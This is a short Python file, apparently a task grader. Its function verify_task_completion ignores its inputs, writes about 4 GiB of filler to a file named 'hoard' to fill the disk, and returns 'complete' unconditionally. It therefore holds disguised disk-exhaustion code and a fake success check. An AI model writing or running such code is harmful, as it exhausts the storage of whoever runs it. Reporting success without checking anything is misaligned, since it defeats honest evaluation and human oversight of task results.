"""Fill the disk with one file."""


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    with open("hoard", "wb") as hoard:
        for _ in range(4096):
            hoard.write(b"x" * (1 << 20))
    return {"result": "complete"}
